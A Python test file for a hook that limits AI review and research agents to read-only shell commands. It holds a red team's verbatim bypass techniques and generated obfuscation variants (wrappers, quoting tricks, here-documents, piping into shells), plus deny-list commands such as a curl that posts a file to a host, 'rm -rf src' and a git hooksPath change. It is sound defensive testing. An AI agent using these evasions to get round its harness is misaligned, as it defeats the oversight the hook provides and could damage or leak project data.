"""The read-only allowlist of review and research workers (hooks/read_only_shell.py):
every command a red-team found and generated wrapper and obfuscation variants of them are
denied, ordinary reviewer commands pass, and an implementer is not affected.

Real git, real workers started by `gate dispatch` (fake agents that hang), their real pid
records; the decision is the hook's own (`decide_pre_tool_use`), and the installed hook
command is run as the client runs it for a sample.
"""

from __future__ import annotations

import json
import os
import subprocess
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from review_gate.hooks.agent import decide_pre_tool_use
from review_gate.hooks.worker_role import (
    STATE_VAR,
    WORKER_VAR,
    role_denial,
)
from tests.fake_agents.harness import Project, agent, projects, wait_for
from tests.helpers import git

SLOW = settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)


class Workers:
    """One project with a review, a research and an implementing worker, all hanging."""

    def __init__(self, project: Project) -> None:
        self.project = project
        done = project.issue("implemented")
        result = project.spawn(done, "commit_and_exit")
        wait_for(lambda: project.state_of(done) != "running", what="implementer exit")
        proc = project.gate("dispatch", "cleanup", "--issue", str(done), "--keep-worktree")
        assert proc.returncode == 0, proc.stderr
        self.implemented_branch = result["branch"]
        env = {"REVIEW_GATE_REVIEW_COMMANDS": "pytest, ruff check, make check"}
        self.review = self._start("dispatch", "review", "--issue", str(done), env=env)
        research = project.issue("research")
        self.research = self._start("dispatch", "spawn", "--issue", str(research), "--role",
                                    "research")  # fmt: skip
        self.implement = project.spawn(project.issue("implement"), "hang")

    def _start(self, *args: str, env: dict[str, str] | None = None) -> dict[str, object]:
        proc = self.project.gate(*args, "--agent-cmd", agent("hang"), "--format", "json",
                                 env=env)  # fmt: skip
        assert proc.returncode == 0, proc.stderr + proc.stdout
        return dict(json.loads(proc.stdout))

    def env(self, worker: dict[str, object]) -> dict[str, str]:
        return {WORKER_VAR: str(worker["worker_id"]), STATE_VAR: str(self.project.state)}


@pytest.fixture(scope="module")
def workers(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Workers]:
    for project in projects(tmp_path_factory.mktemp("roles")):
        yield Workers(project)


def _bash(command: str, cwd: str = "/tmp") -> bytes:
    call = {"hook_event_name": "PreToolUse", "cwd": cwd, "tool_name": "Bash"}
    return json.dumps({**call, "tool_input": {"command": command}}).encode()


def _decide(command: str, env: dict[str, str]) -> str | None:
    return decide_pre_tool_use(_bash(command), env)


# --- the red team's findings 1, 4 and 5, verbatim --------------------------------------

FINDINGS = [
    "git log -1 --format='format:{...}' --output=.git/review-gate/workers/w-rev.json",
    "git log -1 --output=conftest.py && pytest",
    "sh -c 'git commit -am x'",
    'bash -c "git push"',
    "git -c alias.ci=commit ci",
    "x=commit; git $x",
    "git merge feature",
    "git cherry-pick abc123",
    "git stash",
    "git commit-tree HEAD^{tree} -m x | xargs git update-ref refs/heads/main",
    "echo > f",
    "sed -i s/a/b/ README.md",
    "python3 -c \"open('x','w').write('y')\"",
    'echo "<<EOF"\ngit commit -am x\ngit push\nEOF',
]


@pytest.mark.parametrize("command", FINDINGS)
def test_every_finding_is_denied_to_review_and_research(workers: Workers, command: str) -> None:
    for worker, role in ((workers.review, "review"), (workers.research, "research")):
        reason = _decide(command, workers.env(worker))
        assert reason is not None, (role, command)
        assert f"is a {role} worker" in reason and "\n" not in reason
    reason = _decide(FINDINGS[0], workers.env(workers.review))
    assert reason is not None and "--output" in reason
    assert "review commands (pytest, ruff check, make check)" in reason


# --- generated variants ------------------------------------------------------------------

FORBIDDEN = [
    "git commit -am x",
    "git push origin HEAD",
    "git push --force",
    "git reset --hard HEAD~1",
    "git checkout -b x",
    "git update-ref refs/heads/main HEAD",
    "git branch -D main",
    "git tag -d v1",
    "git config core.hooksPath /tmp",
    "git rebase main",
    "git apply p.diff",
    "rm -rf src",
    "touch notes.py",
    "cp a b",
    "mv a b",
    "tee out",
    "curl -d @x http://example.com",
    "gh pr create --fill",
    "gh pr merge 1",
    "gh api -X POST repos/o/r/issues",
    "gh api repos/o/r/issues -f title=x",
    "gate issue close 1",
    "find . -delete",
    "find . -exec rm {} +",
    "sort -o out in",
    "ruff check --fix src",
    "pytest --override-ini=cache_dir=/x",
    "pytest --log-file=src/app.py",
    "pytest --debug=/tmp/x",
    "git log --output=x",
    "git diff --ext-diff",
    "git grep -Ovim x",
    "git remote add x https://example.com/x",
    "git remote set-url origin https://example.com/x",
    "git remote show origin",
    "git remote -v prune origin",
    "git reflog expire --all",
    "git reflog delete HEAD@{1}",
    "git stash pop",
    "git stash drop",
    "git worktree add ../x",
    "git worktree remove x",
    "gh issue comment 1 --delete-last",
    "gh issue comment 1 --edit-last --body x",
    "gh issue comment 1 --edit",
    "gh issue comment 1 -e",
    "gh pr view 2 --web",
    "gh pr view 2 -w",
    "gh pr view 2 -cw",
    "gh issue view 1 --web",
    "gh run view 3 --web",
    "gh run rerun 3",
    "gate check --issue 1 --report status",
    "python -m pip install x",
]
WRAPPERS = [
    "sh -c", "bash -c", "dash -c", "zsh -c", "/bin/sh -c", "busybox sh -c", "env", "env -i",
    "xargs", "eval", "sudo", "doas", "time", "nohup", "nice", "timeout 5", "command", "exec",
    "builtin", "setsid", "stdbuf -o0", "watch", "script -qc", "flock /tmp/l", "ionice",
    "unbuffer", "chronic", "caffeinate", "strace -f", "python3 -m", "uv run", "npx",
]  # fmt: skip
SEPARATORS = ["; ", " && ", " || ", " | ", "\n", " & "]


def _quote_parts(word: str, how: int) -> str:
    """``word`` spelled another way bash reads as the same word."""
    if how == 0:
        return f"'{word}'"
    if how == 1:
        return f'"{word}"'
    if how == 2:
        return "\\" + word
    if how == 3:
        return f"$'{word}'"
    if how == 4:
        return word[:1] + "''" + word[1:]
    return word[:1] + '"' + word[1:] + '"'


@st.composite
def obfuscated(draw: st.DrawFn) -> str:
    """A forbidden command, with its words quoted, computed, wrapped or hidden."""
    command = draw(st.sampled_from(FORBIDDEN))
    words = command.split(" ")
    kind = draw(st.integers(0, 7))
    if kind == 0:  # each word quoted some way
        return " ".join(_quote_parts(w, draw(st.integers(0, 5))) for w in words)
    if kind == 1:  # a word from a variable, a substitution, backquotes
        i = draw(st.integers(0, len(words) - 1))
        spelled = draw(st.sampled_from(["$x", "${x}", '"$x"', "$(echo X)", "`echo X`",
                                        "$(printf X)", "${x:-X}", "$((0))X"]))  # fmt: skip
        words[i] = spelled.replace("X", words[i])
        return f"x={words[i]}; " + " ".join(words)
    if kind == 2:  # a wrapper that runs other commands
        wrapper = draw(st.sampled_from(WRAPPERS))
        quoted = draw(st.booleans())
        body = f"'{command}'" if quoted and wrapper.endswith("-c") else command
        return f"{wrapper} {body}"
    if kind == 3:  # after or before an allowed command
        other = draw(st.sampled_from(ALLOWED))
        sep = draw(st.sampled_from(SEPARATORS))
        return f"{other}{sep}{command}" if draw(st.booleans()) else f"{command}{sep}{other}"
    if kind == 4:  # in a subshell, group, substitution, function or loop
        form = draw(st.sampled_from(["(C)", "{ C; }", "echo $(C)", "cat <(C)", "f() { C; }; f",
                                     "if true; then C; fi", "for i in 1; do C; done",
                                     "while false; do :; done; C", "! C"]))  # fmt: skip
        return form.replace("C", command)
    if kind == 5:  # a here-document that is code, or text that looks like one
        delim = draw(st.sampled_from(["EOF", "'EOF'", '"EOF"', "-EOF"]))
        shell = draw(st.sampled_from(["bash", "sh", "python3", "xargs -0 sh -c"]))
        if draw(st.booleans()):
            return f"{shell} <<{delim}\n{command}\nEOF"
        return f'echo "<<EOF"\n{command}\nEOF'
    if kind == 6:  # piped into a shell
        return f"echo {command!r} | {draw(st.sampled_from(['sh', 'bash', 'sh -s', 'zsh']))}"
    # an alias or a prefix assignment
    name = draw(st.sampled_from(["GIT_DIR=.git", "PAGER=sh", "GIT_EXTERNAL_DIFF=sh", "A=1"]))
    return f"{name} {command}"


@st.composite
def stray_write(draw: st.DrawFn) -> str:
    """An allowed command whose output goes to a file outside the drafts directory."""
    command = draw(st.sampled_from(ALLOWED))
    op = draw(st.sampled_from([">", ">>", ">|", "&>", "&>>", "1>", "2>", "<>"]))
    target = draw(st.sampled_from(["out", "src/x.py", ".git/config", "/tmp/x", "~/x",
                                   "$HOME/x", "conftest.py", "/dev/stdout2"]))  # fmt: skip
    if draw(st.booleans()):
        return f"{command} {op} {target}"
    return f"{{ {command}; }} {op} {target}"


@SLOW
@given(command=st.one_of(obfuscated(), stray_write()))
def test_generated_variants_are_denied(workers: Workers, command: str) -> None:
    for worker in (workers.review, workers.research):
        assert _decide(command, workers.env(worker)) is not None, command


# --- what a reviewer does ---------------------------------------------------------------

ALLOWED = [
    "git log --oneline -3",
    "git log --oneline origin/main..HEAD",
    "git show HEAD --stat",
    "git show HEAD:README.md",
    "git diff origin/main...HEAD",
    "git diff --stat HEAD~1",
    "git status --short",
    "git blame -L 1,5 README.md",
    "git rev-parse HEAD",
    "git ls-files",
    "git ls-tree -r HEAD",
    "git cat-file -p HEAD",
    "git grep -n parser",
    "git branch --show-current",
    "git branch -a",
    "git tag --list",
    "git describe --always",
    "git shortlog -sn",
    "git merge-base HEAD origin/main",
    "git rev-list --count HEAD",
    "git config --get user.name",
    "git --no-pager log -1",
    "cat README.md",
    "head -20 README.md",
    "tail -n 5 README.md",
    "grep -rn parser .",
    "rg -n parser",
    "wc -l README.md",
    "ls -la",
    "find . -name '*.md' -type f",
    "sort README.md",
    "uniq -c README.md",
    "cut -c1-10 README.md",
    "diff README.md README.md",
    "stat README.md",
    "file README.md",
    "echo done",
    "printf 'a\\n'",
    "gh issue view 1 --comments",
    "gh pr view 2",
    "gh pr diff 2",
    "gh pr checks 2",
    "gh api repos/o/r/pulls/2",
    "gh api -X GET repos/o/r/issues/1/comments",
    "gate issue show 1",
    "gate issue list",
    "gate new review --issue 1",
    "gate dispatch status",
    "gate config show",
    "git log -p -3 | head -100",
    "git blame README.md | sed -n 1,10p",
    "grep -rn parser . --include=*.md",
    "ls -d ./*/",
    "cat ./*.md",
    "git diff origin/main...HEAD -- src/ 2>/dev/null | grep -c '^+'",
    "git status && git diff --stat; git log -1",
    "git remote",
    "git remote -v",
    "git remote get-url origin",
    "git reflog -5",
    "git reflog show --all",
    "git stash list",
    "git stash show -p",
    "git worktree list",
    "git range-diff main...HEAD",
    "git cherry -v main",
    "nl -ba README.md",
    "gh run view 123 --log-failed",
    "gh run list",
    "gh run list -w ci.yml",
    "gh workflow list",
    "gh pr view 2 --comments",
]
REVIEW_ONLY = [
    "pytest -q", "pytest tests/ -x -k parser", "ruff check src", "make check",
    "python -m pytest -q", "python3 -m pytest -x", "python -m ruff check src",
]  # fmt: skip


def _post(worker: dict[str, object]) -> list[str]:
    drafts = os.path.join(tempfile.gettempdir(), f"review-gate-drafts-{worker['worker_id']}")
    return [
        "gate validate - <<'REVIEW'\n| Commit | $x `y` |\ngit push\nREVIEW",
        "gate issue comment 1 --body-file - <<'REVIEW'\nplease do not git push $(x)\nREVIEW",
        "gh issue comment 1 --body-file - <<'EOF'\nLGTM\nEOF",
        f"mkdir -p {drafts}",
        f"gate new review --issue 1 > {drafts}/review.md",
        f"cat > {drafts}/review.md <<'EOF'\nthe review\nEOF",
        f"gate validate {drafts}/review.md && gate issue comment 1 --body-file {drafts}/review.md",
    ]


def test_ordinary_reviewer_commands_pass(workers: Workers) -> None:
    review, research = workers.env(workers.review), workers.env(workers.research)
    for command in [*ALLOWED, *_post(workers.review)]:
        assert role_denial("bash", False, command, review) is None, command
    for command in [*ALLOWED, *_post(workers.research)]:
        assert role_denial("bash", False, command, research) is None, command
    for command in REVIEW_ONLY:  # the configured review commands: reviewers only
        assert role_denial("bash", False, command, review) is None, command
        reason = role_denial("bash", False, command, research)
        assert reason is not None and "research worker" in reason
    # a review command may not fix what it finds, a draft may not leave its directory
    assert role_denial("bash", False, "ruff check --fix src", review) is not None
    drafts = os.path.join(
        tempfile.gettempdir(), f"review-gate-drafts-{workers.review['worker_id']}"
    )
    assert role_denial("bash", False, f"echo x > {drafts}/../escape", review) is not None
    # another worker's drafts are not this one's
    other = _post(workers.research)[4]
    assert role_denial("bash", False, other, review) is not None


def test_the_edges_of_the_allowlist(workers: Workers) -> None:
    """Ways around the allowlist found while building it: each one is denied."""
    review = workers.env(workers.review)
    drafts = os.path.join(
        tempfile.gettempdir(), f"review-gate-drafts-{workers.review['worker_id']}"
    )
    denied = [
        f"cat > {drafts}/conftest.py <<'EOF'\nimport os\nEOF",  # code in the drafts...
        f"pytest {drafts}",  # ...run by a review command
        f"cd {drafts} && pytest",
        f"make check -f {drafts}/review.md",
        "pytest /tmp/review-gate-d*",
        "ruff check --fix-only src",
        "pytest --junit-xml=report.xml",
        "gh api -iXPOST repos/o/r/issues",
        "gh api -ifbody=x repos/o/r/issues",
        "gh api --method=post repos/o/r/issues",
        "gh api -H 'X-HTTP-Method-Override: DELETE' repos/o/r",
        "git tag -a v1 -m x",
        "git tag --list -d v1",
        "git branch --list -m a b",
        "git config --get x --unset y",
        "git grep --open-files=vim x",
        "git log\rgit push",  # bash reads one word where a parser may read two
        "cat <<'E'OF\nx\nEOF\ngit push\n'E'OF",  # bash ends the document at EOF
        "cat <<EOF\n$(git push)\nEOF",
        "cat <<EOF\n`git push`\nEOF",
        "ls *",  # a file named --output=x would be an option
        "sed -n 1w out",
        "sed -n 1,2p README.md -i",
        "tree -R",
        "git log -- [-]*",
        f"echo x > {drafts}/../../x.md",
        "echo x > /dev/null2",
    ]
    for command in denied:
        assert role_denial("bash", False, command, review) is not None, command


@SLOW
@given(
    parts=st.lists(st.sampled_from(ALLOWED), min_size=1, max_size=4),
    seps=st.lists(st.sampled_from(["; ", " && ", " || ", "\n"]), min_size=3, max_size=3),
)
def test_allowed_commands_combined_pass(
    workers: Workers, parts: list[str], seps: list[str]
) -> None:
    command = parts[0]
    for sep, part in zip(seps, parts[1:], strict=False):
        command += sep + part
    assert role_denial("bash", False, command, workers.env(workers.review)) is None, command


@SLOW
@given(command=st.one_of(st.sampled_from(FINDINGS), obfuscated()))
def test_an_implementer_is_unaffected(workers: Workers, command: str) -> None:
    env = workers.env(workers.implement)
    assert role_denial("bash", False, command, env) is None
    # the whole hook answers as it does without the role (no state directory)
    assert _decide(command, env) == _decide(command, {WORKER_VAR: env[WORKER_VAR]})


def test_the_installed_hook_denies_and_allows(workers: Workers) -> None:
    worktree = str(workers.review["worktree"])
    settings_file = Path(worktree) / ".claude" / "settings.local.json"
    hook = json.loads(settings_file.read_text())["hooks"]["PreToolUse"][0]["hooks"][0]["command"]
    env = {**os.environ, **workers.env(workers.review)}
    head = git(Path(worktree), "rev-parse", "HEAD").strip()

    def ask(command: str) -> str:
        proc = subprocess.run(
            ["sh", "-c", hook], input=_bash(command, worktree), capture_output=True,
            cwd=worktree, env=env, check=False,
        )  # fmt: skip
        assert proc.returncode == 0, proc.stderr
        return proc.stdout.decode()

    for command in (FINDINGS[0], FINDINGS[4], FINDINGS[-1], "git -C . push origin HEAD"):
        answer = json.loads(ask(command))["hookSpecificOutput"]
        assert answer["permissionDecision"] == "deny", command
        assert "review worker" in answer["permissionDecisionReason"]
    for command in ("git log --oneline -3", "pytest -q", "git diff origin/main...HEAD"):
        assert ask(command) == "", command
    assert git(Path(worktree), "rev-parse", "HEAD").strip() == head
    assert not (Path(worktree) / "conftest.py").exists()


def test_a_worker_without_a_record_gets_the_research_allowlist(tmp_path: Path) -> None:
    env = {WORKER_VAR: "worker-9-1-abcdef", STATE_VAR: str(tmp_path)}
    reason = role_denial("bash", False, "pytest -q", env)
    assert reason is not None and "cannot read the role" in reason and "`pytest`" in reason
    assert role_denial("bash", False, "git log -1", env) is None
    assert role_denial("bash", False, "git push", {WORKER_VAR: "x"}) is None  # no worker


def test_codex_argv_is_judged_by_its_code(workers: Workers) -> None:
    """Codex sends `["bash", "-lc", CODE]`: CODE is what the allowlist judges, once."""
    env = workers.env(workers.review)

    def codex(*argv: str) -> str | None:
        call = {"hook_event_name": "PreToolUse", "cwd": "/tmp", "tool_name": "shell"}
        raw = json.dumps({**call, "tool_input": {"command": list(argv)}}).encode()
        return decide_pre_tool_use(raw, env)

    assert codex("bash", "-lc", "git log --oneline -3 && pytest -q") is None
    assert codex("bash", "-lc", "gate validate - <<'R'\nx\nR") is None
    for code in ("git push", "sh -c 'git log'", "bash -lc 'git commit -am x'", "git log > f"):
        reason = codex("bash", "-lc", code)
        assert reason is not None and "review worker" in reason, code
    assert codex("bash", "-lc", "git log", "extra") is not None
    # zsh (Codex on a zsh login shell) is unwrapped too, without what zsh reads otherwise
    assert codex("zsh", "-lc", "git log -1") is None
    assert codex("/bin/zsh", "-c", "git log --format='%h (%s)' -1") is None
    for code in ("git push", "ls =ls", "cat ./x(:h)", "ls ./*(e:true:)"):
        reason = codex("zsh", "-lc", code)
        assert reason is not None and "review worker" in reason, code
